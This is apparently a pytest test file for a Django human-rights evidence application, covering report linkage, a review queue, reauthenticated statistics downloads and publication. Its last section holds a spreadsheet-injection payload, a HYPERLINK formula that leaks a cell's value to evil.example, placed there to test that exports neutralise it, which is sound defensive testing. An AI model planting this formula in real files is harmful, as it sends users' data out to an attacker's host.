"""The linkage, review and statistics pages, and the whole path of the issue through them."""

# ruff: noqa: F811 (fixtures imported from a shared module are test parameters)

from __future__ import annotations

import csv
import io
import re
import time
from urllib.parse import urlencode

import pytest
from django.test import Client
from django.urls import reverse
from django_scopes import scope, scopes_disabled

from panah.core.models import AuditEntry, Role
from panah.core.reauth import REAUTH_SESSION_KEY
from panah.core.tests.helpers import PASSWORD, confirmed_device, totp_code, wrong_code
from panah.evidence.demo import DEMO_SOURCES, _write_files
from panah.evidence.linkage_runs import run_linkage
from panah.evidence.models import ReviewDecision, ReviewPair, Victim
from panah.evidence.synthetic import SOURCES, generate
from panah.public.models import PublishedStatistic

from .linking_fixtures import (  # noqa: F401
    _linkage_settings,
    add_reports,
    researcher,
    starter_model,
)
from .test_linking import ENGLISH, MIXED, PERSIAN

pytestmark = pytest.mark.django_db


@pytest.fixture
def linked(org_a, researcher):
    add_reports(org_a, "Persian", PERSIAN)
    add_reports(org_a, "English", ENGLISH)
    add_reports(org_a, "Mixed", MIXED)
    # An uncertain pair for the queue.
    add_reports(org_a, "Persian", [dict(source_reference="P-9", name_as_written="Ali Rahimi",
                province="Tehran", date_as_written="2024-02-01", gender="male")])  # fmt: skip
    add_reports(org_a, "English", [dict(source_reference="E-9", name_as_written="Alireza Rahimi",
                province="Tehran", date_as_written="2024-02-01", gender="male")])  # fmt: skip
    with scope(organisation=org_a):
        run_linkage(organisation=org_a, review_band=(0.0, 1.0), threshold=0.99)
        pair = ReviewPair.objects.filter(report_a__source_reference__in=["P-9", "E-9"]).get()
    return org_a, pair


# --- Who may do what ------------------------------------------------------------------------------


def test_a_coordinator_reads_the_queue_and_statistics_but_may_not_decide_or_link(
    linked, make_member, login_as
):
    org, pair = linked
    client = login_as(make_member(org, [Role.COORDINATOR]))
    assert client.get(reverse("evidence:review_queue")).status_code == 200
    assert client.get(reverse("evidence:review_pair", args=[pair.pk])).status_code == 200
    assert client.get(reverse("evidence:statistics")).status_code == 200
    response = client.post(
        reverse("evidence:review_pair", args=[pair.pk]), {"decision": "match", "reason": "x"}
    )
    assert response.status_code == 403
    assert client.post(reverse("evidence:linkage_run")).status_code == 403


def test_a_caseworker_sees_neither_queue_nor_statistics(caseworker_a, login_as):
    client = login_as(caseworker_a)
    for name in ("review_queue", "statistics", "linkage_history"):
        assert client.get(reverse(f"evidence:{name}")).status_code == 403


def test_another_organisations_pair_is_not_found(linked, org_b, make_member, login_as):
    _org, pair = linked
    client = login_as(make_member(org_b, [Role.RESEARCHER]))
    assert client.get(reverse("evidence:review_pair", args=[pair.pk])).status_code == 404


# --- The review page -------------------------------------------------------------------------------


def test_the_pair_page_shows_both_reports_and_the_evidence_for_and_against(
    linked, researcher, login_as
):
    _org, pair = linked
    page = login_as(researcher).get(reverse("evidence:review_pair", args=[pair.pk]))
    text = page.content.decode()
    assert "Ali Rahimi" in text and "Alireza Rahimi" in text
    assert "same surname" in text and "weight-for" in text and "weight-against" in text


def test_a_decision_without_a_reason_is_refused_and_nothing_changes(linked, researcher, login_as):
    org, pair = linked
    response = login_as(researcher).post(
        reverse("evidence:review_pair", args=[pair.pk]), {"decision": "match", "reason": ""}
    )
    assert response.status_code == 200 and b"This field is required" in response.content
    with scope(organisation=org):
        assert not ReviewDecision.objects.exists()


def test_a_decision_is_applied_and_shown_in_the_history(linked, researcher, login_as):
    org, pair = linked
    client = login_as(researcher)
    response = client.post(
        reverse("evidence:review_pair", args=[pair.pk]),
        {"decision": "match", "reason": "Same father in the court ruling."},
    )
    assert response.status_code == 302
    with scope(organisation=org):
        decision = ReviewDecision.objects.get()
        assert decision.decided_by == researcher and decision.run_id == pair.run_id
    history = client.get(reverse("evidence:linkage_history")).content.decode()
    assert "Same father in the court ruling." in history and "Merge" in history


def test_linking_from_the_page_reports_the_run(org_a, researcher, login_as):
    add_reports(org_a, "English", ENGLISH)
    response = login_as(researcher).post(reverse("evidence:linkage_run"), follow=True)
    assert b"3 victims from 3 reports" in response.content


# --- The statistics page ----------------------------------------------------------------------------


def test_the_statistics_page_shows_counts_a_chart_and_their_definitions(
    linked, researcher, login_as
):
    response = login_as(researcher).get(reverse("evidence:statistics"), {"year": 2024})
    text = response.content.decode()
    assert text.count('<svg xmlns="http://www.w3.org/2000/svg"') == 3  # years, months, Persian
    assert "Documented, at least" in text and "Gregorian calendar years" in text
    assert "estimated: about" not in text  # estimates only on request


def test_the_estimate_is_shown_apart_with_its_interval_and_method(linked, researcher, login_as):
    text = login_as(researcher).get(reverse("evidence:statistics"), {"estimate": "all"}).content
    text = text.decode()
    assert "estimated: about" in text and "method" in text and "Warning:" in text


def reauthenticated(client: Client) -> Client:
    """The client as if its member had just given their password and code again."""
    session = client.session
    session[REAUTH_SESSION_KEY] = time.time()
    session.save()
    return client


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "pdf"])
def test_downloads_suppress_small_cells(linked, researcher, login_as, fmt):
    response = reauthenticated(login_as(researcher)).get(
        reverse("evidence:statistics_download"), {"year": 2024, "fmt": fmt}
    )
    assert response.status_code == 200
    body = response.content
    if fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(body.decode())))
        cells = [r["documented_at_least"] for r in rows]
        assert "< 5" in cells
        assert all(c == "< 5" or c == "0" or int(c) >= 5 for c in cells)
    elif fmt == "xlsx":
        assert body[:2] == b"PK"
    else:
        assert body[:5] == b"%PDF-"


def test_an_unknown_download_format_is_not_found(researcher, login_as):
    response = reauthenticated(login_as(researcher)).get(
        reverse("evidence:statistics_download"), {"fmt": "docx"}
    )
    assert response.status_code == 404


def exports(org) -> int:
    with scopes_disabled():
        return AuditEntry.objects.filter(
            organisation=org, action="evidence.statistics_exported"
        ).count()


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "pdf"])
def test_a_download_needs_the_password_and_a_code_given_again(linked, researcher, login_as, fmt):
    org, _pair = linked
    client = login_as(researcher)
    url = reverse("evidence:statistics_download")

    refused = client.get(url, {"year": 2024, "fmt": fmt})

    # Logging in does not count: the member is asked to confirm, and comes back to the file.
    assert refused.status_code == 302
    back_to = f"{url}?year=2024&fmt={fmt}"
    assert refused["Location"] == f"/account/confirm/?{urlencode({'next': back_to})}"
    assert exports(org) == 0
    confirm = client.get(refused["Location"])
    assert "Confirm it is you" in confirm.content.decode()
    device = confirmed_device(researcher)
    confirmed = client.post(
        "/account/confirm/", {"password": PASSWORD, "code": totp_code(device), "next": back_to}
    )
    assert confirmed["Location"] == back_to

    response = client.get(back_to)

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="execution-statistics')
    assert exports(org) == 1


def test_a_wrong_code_opens_no_download(linked, researcher, login_as):
    org, _pair = linked
    client = login_as(researcher)
    url = reverse("evidence:statistics_download")
    client.post(
        "/account/confirm/",
        {"password": PASSWORD, "code": wrong_code(confirmed_device(researcher)), "next": url},
    )

    response = client.get(url, {"fmt": "csv"})

    assert response.status_code == 302
    assert response["Location"].startswith("/account/confirm/")
    assert exports(org) == 0


def test_a_stale_reauthentication_no_longer_opens_a_download(
    linked, researcher, login_as, settings
):
    org, _pair = linked
    client = login_as(researcher)
    session = client.session
    session[REAUTH_SESSION_KEY] = time.time() - settings.REAUTH_MINUTES * 60 - 1
    session.save()

    response = client.get(reverse("evidence:statistics_download"), {"fmt": "csv"})

    assert response.status_code == 302
    assert response["Location"].startswith("/account/confirm/")
    assert exports(org) == 0


def test_the_statistics_page_itself_needs_no_reauthentication(linked, researcher, login_as):
    response = login_as(researcher).get(reverse("evidence:statistics"))

    assert response.status_code == 200
    assert 'href="/evidence/statistics/download/?fmt=csv' in response.content.decode()


def test_a_caseworker_may_not_download_even_after_reauthenticating(linked, caseworker_a, login_as):
    client = reauthenticated(login_as(caseworker_a))

    response = client.get(reverse("evidence:statistics_download"), {"fmt": "csv"})

    assert response.status_code == 403


# --- The "done when", through the pages ---------------------------------------------------


def test_a_researcher_imports_three_sources_links_reviews_and_publishes_counts_and_an_estimate(
    org_a,
    researcher,
    login_as,
    tmp_path,
):
    client = login_as(researcher)
    specs = {s.name: s for s in SOURCES}
    data = generate(n_victims=45, seed=5, sources=tuple(specs[s[4]] for s in DEMO_SOURCES))
    truth = dict(zip(data.columns["source_reference"], data.truth, strict=True))
    files = _write_files(data, tmp_path)

    # Three sources, three files: Persian/Jalali CSV, English/Gregorian XLSX, mixed JSON.
    for (name, kind, language, _notes, _key), (path, mapping) in zip(
        DEMO_SOURCES, files, strict=True
    ):
        client.post(
            reverse("evidence:source_create"), {"name": name, "kind": kind, "language": language}
        )
        with scope(organisation=org_a):
            from panah.evidence.models import Source

            source = Source.objects.get(name=name)
        with path.open("rb") as fh:
            response = client.post(
                reverse("evidence:import_upload"), {"source": source.pk, "file": fh}
            )
        assert response.status_code == 302, response.content.decode()[:2000]
        columns = client.session["evidence_import"]["columns"]
        form = {f"column_{i}": (mapping or {}).get(c, c) for i, c in enumerate(columns)}
        response = client.post(reverse("evidence:import_columns"), form)
        assert response.status_code == 302
        response = client.post(reverse("evidence:import_confirm"), follow=True)
        assert b"new reports saved" in response.content

    # Link them.
    response = client.post(reverse("evidence:linkage_run"), follow=True)
    assert b"pairs to review" in response.content

    # Resolve the review queue, pair after pair, as the pages lead.
    decided = 0
    while True:
        with scope(organisation=org_a):
            pair = ReviewPair.objects.order_by("-probability", "pk").first()
        if pair is None:
            break
        page = client.get(reverse("evidence:review_pair", args=[pair.pk]))
        assert b"Evidence for and against" in page.content
        with scope(organisation=org_a):
            same = truth[pair.report_a.source_reference] == truth[pair.report_b.source_reference]
        response = client.post(
            reverse("evidence:review_pair", args=[pair.pk]),
            {"decision": "match" if same else "non_match", "reason": "Checked the court records."},
        )
        assert response.status_code == 302, re.findall(
            r"errorlist[^>]*>(.*?)</ul>", response.content.decode(), re.S
        )
        decided += 1
    queue = client.get(reverse("evidence:review_queue")).content.decode()
    assert "No pair waits for a decision." in queue
    with scope(organisation=org_a):
        assert ReviewDecision.objects.count() == decided
        victims = Victim.objects.filter(retired_at__isnull=True).count()
    assert abs(victims - data.n_victims_reported) <= max(2, data.n_victims_reported // 20)

    # Yearly and monthly counts with a chart, and an estimate.
    page = client.get(reverse("evidence:statistics"), {"year": 2024, "estimate": "2024"})
    text = page.content.decode()
    assert "<svg" in text and "estimated: about" in text
    response = client.post(
        reverse("public:publish"),
        {
            "title": "Executions 2019–2024", "tables": ["yearly", "monthly"], "estimate": "year",
            "year": 2024, "verification": "all",
        },
    )  # fmt: skip
    assert response.status_code == 302
    with scopes_disabled():
        published = PublishedStatistic.objects.get()
    assert [t["kind"] for t in published.figures["tables"]] == ["year", "month"]

    # The public page, for anyone.
    public_page = Client().get(reverse("public:statistic", args=[published.pk]))
    text = public_page.content.decode()
    assert public_page.status_code == 200
    assert "Executions documented per year" in text and "per month of 2024" in text
    assert "<svg" in text and "estimated: about" in text
    assert researcher.email not in text and str(researcher) not in text


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@pytest.fixture
def formula_province(org_a, researcher):
    """Six victims whose province a source wrote as a spreadsheet formula."""
    names = ["Ali Ahmadi", "Reza Karimi", "Hassan Moradi", "Mehdi Jafari", "Omid Sadeghi",
             "Kamran Rostami"]  # fmt: skip
    add_reports(org_a, "Persian", [
        dict(source_reference=f"F-{i}", name_as_written=name, province=FORMULA,
             ethnicity=FORMULA, date_as_written=f"2024-03-{i + 10:02d}", gender="male")
        for i, name in enumerate(names)
    ])  # fmt: skip
    with scope(organisation=org_a):
        run_linkage(organisation=org_a, review_band=(0.0, 1.0), threshold=0.99)


def test_a_formula_in_a_province_is_plain_text_in_the_csv_download(
    formula_province, researcher, login_as
):
    response = reauthenticated(login_as(researcher)).get(
        reverse("evidence:statistics_download"), {"year": 2024, "fmt": "csv"}
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    labels = {r["label"] for r in rows if "HYPERLINK" in r["label"]}
    assert labels == {"'" + FORMULA}
    assert [r["documented_at_least"] for r in rows if r["label"] == "'" + FORMULA][0] == "6"


def test_a_formula_in_a_province_is_plain_text_in_the_xlsx_download(
    formula_province, researcher, login_as
):
    from openpyxl import load_workbook

    response = reauthenticated(login_as(researcher)).get(
        reverse("evidence:statistics_download"), {"year": 2024, "fmt": "xlsx"}
    )
    book = load_workbook(io.BytesIO(response.content))
    cells = [
        c
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str) and "HYPERLINK" in c.value
    ]
    assert len(cells) >= 2  # the province and the ethnicity tables
    assert {(c.value, c.data_type) for c in cells} == {("'" + FORMULA, "s")}
